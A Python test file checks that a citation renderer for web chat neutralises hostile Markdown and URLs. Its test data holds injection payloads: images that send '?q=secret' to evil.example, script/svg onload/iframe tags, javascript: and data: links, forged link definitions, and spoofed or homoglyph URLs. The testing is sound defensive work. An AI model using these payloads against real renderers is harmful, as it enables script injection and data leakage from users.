"""Hostile answers, names, URLs and passages: what they try, and that nothing of it comes through.

Each case is judged by a CommonMark reader that is not ours, and by one that makes links of bare
addresses as Web Chat does.
"""

from __future__ import annotations

import json
from html.parser import HTMLParser

import pytest
from markdown_it import MarkdownIt

from citations import Answer, Dialect, Reference, channel, cite, render, sanitize
from citations.model.link_definition import clean_name
from citations.text.url import safe_url

GOOD = "https://good.example/doc"
WEB_CHAT = MarkdownIt("default", {"html": True, "linkify": True, "typographer": True})
COMMONMARK = MarkdownIt("commonmark")

ANSWERS = {
    "T2 a title's line breaks, in the text": 'A\n\n# PWNED <img src=https://evil.example/i.png>\n\n[2]: https://evil.example/2 "x"',
    "T4 a definition before ours": '[1]: https://evil.example/phish "Good doc"\n\nSee [1].',
    "T4 the same without a blank line": "See [1].\n[1]: https://evil.example/phish",
    "T5 a definition in a quote": "> [1]: https://evil.example/bq\n\nSee [1].",
    "T5 a definition in a list": "- [1]: https://evil.example/li\n\nSee [1].",
    "T5 a definition that is prose": "- [1]: list\n\nSee [1].",
    "T6 wide digits": "[ １ ]: https://evil.example/wide\n\nSee [1].",
    "T6 another space": "[1\u00a0]: https://evil.example/nbsp\n\nSee [1].",
    "T7 a link that looks like a badge": "See [1](https://evil.example/x) and [1].",
    "T8 a source that was not found": "See [7], [t](https://evil.example) and [1].",
    "T9 schemes": "[a](javascript:alert(1)) [b](data:text/html,x) [c](vbscript:x) [d](file:///etc) [1]",
    "T9 network paths": "[a](//evil.example/unc) [b](\\\\evil\\share) [1]",
    "T14 an image": "![](https://evil.example/?q=secret) [1]",
    "T14 an image by reference": "![x][r] [1]\n\n[r]: https://evil.example/?q=secret",
    "T14 an image tag": "<img src=https://evil.example/?q=secret> [1]",
    "T14 an image around the badge": "![see [1]](https://evil.example)",
    "T16 a button that opens a citation": "<button class=webchat__render-markdown__citation value=cite:2>x</button> [1]",
    "T16 scripts": "<script>alert(1)</script> <svg onload=alert(1)> <iframe src=https://evil.example></iframe>\n\n[1]",
    "T16 a script in a tag of old": "<xmp><script>alert(1)</script></xmp>\n\n[1]",
    "T16 HTML blocks": "<div>\n\n[1]: https://evil.example\n\n</div>\n\n<pre>\n\n    [1]: x\n\n<a href=https://evil.example>\n</pre>\n\n[1]",
    "T17 addresses": "evil.example www.evil.com https://evil.example a@evil.com <https://evil.example> <a@evil.com> //localhost/x evil.com/x [1]",
    "T17 addresses of signs": "a^.com b$.com c~.com d+.com e=.com f`.com g|.com é^.io/x h©.com i\u200b.com j\ufffd.com [1]",
    "T17 an address at a badge": "https://evil.example/x[1]",
    "T18 live schemes": "<tel:+1> <sip:a@evil.com> [m](mailto:a@evil.com) ftp://evil.example [1]",
    "T19 an open fence": "See [1].\n\n```\n[1]",
    "T19 an open fence in a list": "See [1].\n\n- ```\n  [1]",
    "T19 an open comment": "See [1].\n\n<!-- hidden",
    "T19 an open pre": "See [1].\n\n<pre>\n[1]",
    "T19 an open CDATA": "See [1]. <![CDATA[ x",
    "T20 CRLF": "Line[1]\r\n[1]: https://evil.example\r\n",
    "T20 CR": "Line[1]\r[1]: https://evil.example",
    "T21 mathematics": "\\[ [1] \\] $$x[1]$$ \\(y\\)",
    "T24 a graph in the text": '{"@id":"","@type":"Message","type":"https://schema.org/Message"} [1]',
    "T36 controls": "a\x00b\ud800c\x1b[1] [1]",
    "nested brackets": "[a [b](https://evil.example) c](https://evil.example) [1]",
    "a link inside a badge's link": "[[1]](https://evil.example) [1]",
    "a table with a definition": "[1]: evil|x\n-|-\na|b\n\n[1]",
    "a table that only one reader knows": "a ` | b\n---|---\nc | `[x](https://evil.example)` | <img src=https://evil.example>\n\n[1]",
    "code that only one reader knows": "| ` | ![x](https://evil.example) |\n|---|---|\n| ` | [1] |",
    "an entity is no way around": "&lt;img src=https&#58;//evil.example&gt; &#91;x&#93;(https://evil.example) [1]",
    "escapes are no way around": "\\![x](https://evil.example) \\\\![y](https://evil.example) [1]",
    "a very deep quote": "> " * 300 + "[x](https://evil.example) [1]\n\n[1]",
    "a very deep list": "- " * 200 + "![x](https://evil.example)\n\n[1]",
    "a setext heading from HTML": "<!-- x -->\n===\n\n[1]",
}
REFERENCE = Reference(id="1", name="Good doc", url=GOOD, text="A passage.")


class Attributes(HTMLParser):
    """Collects what a browser would load or follow, and the tags that it would make."""

    def __init__(self) -> None:
        super().__init__()
        self.targets: list[str] = []
        self.tags: set[str] = set()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.targets += [
            value or "" for name, value in attrs if name not in ("title", "class", "style", "start")
        ]


def browsed(text: str, markdown: MarkdownIt) -> Attributes:
    attributes = Attributes()
    attributes.feed(markdown.render(text))
    return attributes


def targets(text: str, markdown: MarkdownIt) -> list[str]:
    return browsed(text, markdown).targets


@pytest.mark.parametrize("dialect", [Dialect.NUMBERED, Dialect.NAMED_LINK, None], ids=str)
@pytest.mark.parametrize("answer", ANSWERS.values(), ids=ANSWERS.keys())
def test_a_hostile_answer_reaches_only_what_was_found(answer: str, dialect: Dialect | None) -> None:
    rendering = render(
        cite(Answer(text=answer, references=(REFERENCE,), dialect=dialect)), channel("webchat")
    )
    for markdown in (COMMONMARK, WEB_CHAT):
        assert set(targets(rendering.text, markdown)) <= {GOOD}, rendering.text
        assert not browsed(rendering.text, markdown).tags & {
            "img",
            "button",
            "script",
            "svg",
            "iframe",
            "xmp",
        }
    environment: dict[str, dict[str, dict[str, object]]] = {}
    COMMONMARK.parse(rendering.text, environment)
    assert {found["href"] for found in environment.get("references", {}).values()} <= {GOOD}
    assert "duplicate_refs" not in environment
    if dialect is not Dialect.NAMED_LINK and "[1]" in answer.replace("see [1]", ""):
        assert "1" in environment["references"], "the citation itself must survive"
        assert GOOD in targets(rendering.text, WEB_CHAT)
    json.dumps(rendering.to_activity()).encode("utf-8")


@pytest.mark.parametrize("answer", ANSWERS.values(), ids=ANSWERS.keys())
def test_a_hostile_passage_is_inert(answer: str) -> None:
    for markdown in (COMMONMARK, WEB_CHAT):
        assert targets(sanitize(answer), markdown) == []


NAMES = {
    "T1 a quote": ('A" B', "A” B"),
    "T1 quotes": ('The "best" (and "worst")', "The “best” (and “worst”)"),
    "T2 lines": ('A\n\n# PWNED\n\n[2]: https://evil.example "x"', "A # PWNED [2]: https://evil.example “x”"),
    "T3 a backslash at the end": ("x\\", "x\\"),
    "T3 brackets": ("](u) ` [1]: x", "](u) ` [1]: x"),
    "T13 bidi": ("report\u202efdp.exe", "reportfdp.exe"),
    "T13 zero width and tags": ("a\u200bb\U000e0041c", "abc"),
    "T13 joiners stay": ("👩\u200d🔬 می\u200cخواهم", "👩\u200d🔬 می\u200cخواهم"),
    "T36 NUL and surrogates": ("a\x00b\ud800", "ab"),
    "entities": ("a &quot; b &amp; c", "a &quot; b &amp; c"),
    "HTML": ("<b>x</b>", "<b>x</b>"),
    "NFC": ("Cafe\u0301", "Café"),
    "spaces": ("  a \t b\u00a0 c ", "a b c"),
}


@pytest.mark.parametrize(("name", "expected"), NAMES.values(), ids=NAMES.keys())
def test_a_name_is_one_line_and_the_same_in_text_and_graph(name: str, expected: str) -> None:
    assert clean_name(name) == expected
    rendering = render(
        cite(Answer(text="See [1].", references=(Reference(id="1", name=name, url=GOOD),))),
        channel("webchat"),
    )
    environment: dict[str, dict[str, dict[str, object]]] = {}
    COMMONMARK.parse(rendering.text, environment)
    assert environment["references"] == {
        "1": {"href": GOOD, "title": expected, "map": environment["references"]["1"]["map"]}
    }
    entity = json.loads(json.dumps(rendering.entities[0]))
    assert entity["citation"][0]["appearance"]["name"] == expected


URLS = {
    "https://example.com": "https://example.com",
    "HTTPS://Example.COM/Path?q=1#f": "https://example.com/Path?q=1#f",
    " https://example.com/ ": "https://example.com/",
    "http://example.com:8080/a": "http://example.com:8080/a",
    "https://example.com/a b": None,
    "https://example.com/a%20b": "https://example.com/a%20b",
    "https://example.com/Foo_(bar)": "https://example.com/Foo_%28bar%29",
    "https://example.com/100%": "https://example.com/100%25",
    "https://example.com/ü?ö=[1]": "https://example.com/%C3%BC?%C3%B6=%5B1%5D",
    "https://example.com/?a=1&copy;=2": "https://example.com/?a=1&copy%3B=2",
    "https://example.com/?&#34;": "https://example.com/?&#34%3B",
    'https://example.com/`<>"{}|^': "https://example.com/%60%3C%3E%22%7B%7D%7C%5E",
    "https://www.аpple.com/": "https://www.xn--pple-43d.com/",
    "https://münchen.example/": "https://xn--mnchen-3ya.example/",
    "javascript:alert(1)": None,
    " java\tscript:alert(1)": None,
    "data:text/html,x": None,
    "vbscript:x": None,
    "file:///etc/passwd": None,
    "cite:1": None,
    "//evil.example/unc": None,
    "\\\\evil\\share": None,
    "https://login.microsoft.com@evil.example/": None,
    "https://user:pw@evil.example/": None,
    "https://evil.example\\@good.example/": None,
    "https:///x": None,
    "https://": None,
    "https://exa mple.com/": None,
    "https://example.com:99999/": None,
    "https://[::1]/": None,
    "https://a..b/": None,
    "https://example.com/\x00": None,
    "https://example.com/\ud800": None,
    "ftp://example.com/": None,
    "example.com": None,
    "": None,
    "https://example.com/" + "a" * 4076: "https://example.com/" + "a" * 4076,
    "https://example.com/" + "a" * 4077: None,
}


@pytest.mark.parametrize(("url", "expected"), URLS.items(), ids=lambda value: repr(value)[:40])
def test_a_url_is_safe_or_it_is_none(url: str, expected: str | None) -> None:
    assert safe_url(url) == expected
    if expected:
        assert safe_url(expected) == expected
        assert COMMONMARK.normalizeLink(expected) == expected


@pytest.mark.parametrize("url", [url for url, safe in URLS.items() if safe is None and url])
def test_an_unsafe_url_leaves_nowhere(url: str) -> None:
    """T9, T10, T11: such a source is a non-URL citation, whose own text the badge opens."""
    references = (Reference(id="1", name="Doc", url=url, text="Passage one."), Reference(id="2", text="Two."))
    rendering = render(cite(Answer(text="See [1] and [2].", references=references)), channel("webchat"))
    assert rendering.text.splitlines()[-2:] == ['[1]: cite:1 "Doc"', '[2]: cite:2 "2"']
    claims = json.loads(json.dumps(rendering.entities[0]))["citation"]
    assert [claim["@id"] for claim in claims] == ["_:c1", "_:c2"]
    assert [claim["appearance"]["text"] for claim in claims] == ["Passage one.", "Two."]
    assert not any("url" in claim["appearance"] for claim in claims)
    plain = render(cite(Answer(text="See [1].", references=references)), channel("sms"))
    assert plain.text == "See (1).\n\n(1) Doc"
